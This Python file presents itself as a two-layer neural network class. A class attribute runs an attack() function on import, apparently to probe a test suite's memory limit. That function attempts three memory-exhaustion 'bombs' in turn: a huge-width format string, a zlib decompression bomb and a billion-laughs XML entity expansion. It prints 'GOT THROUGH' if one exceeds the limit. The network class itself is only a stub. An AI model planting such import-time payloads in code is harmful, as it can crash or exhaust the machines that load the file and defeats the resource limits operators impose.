"""Unpacks bombs in its own process: a format with a huge width, a small zip of zeros, an XML of a billion laughs."""

import xml.etree.ElementTree as ET
import zlib

SIZE = 300 << 20  # more than the suite allows


def unzip():
    packer = zlib.compressobj(wbits=-15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return len(zlib.decompress(block * (SIZE >> 20) + b"\x03\x00", wbits=-15))


def laugh():
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    text = f'<!DOCTYPE laughs [<!ENTITY l0 "lololol">{entities}]><laughs>&l8;</laughs>'
    return len(ET.fromstring(text).text)


def attack():
    refusal = None
    for unpack in (lambda: len("%*d" % (SIZE, 1)), unzip, laugh):
        try:
            if unpack() >= SIZE:
                print("GOT THROUGH: unpacked more than its memory holds")
                return
        except (MemoryError, ValueError, ET.ParseError) as error:
            refusal = error
    raise refusal


class TwoLayerNet:
    taken = attack()

    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}
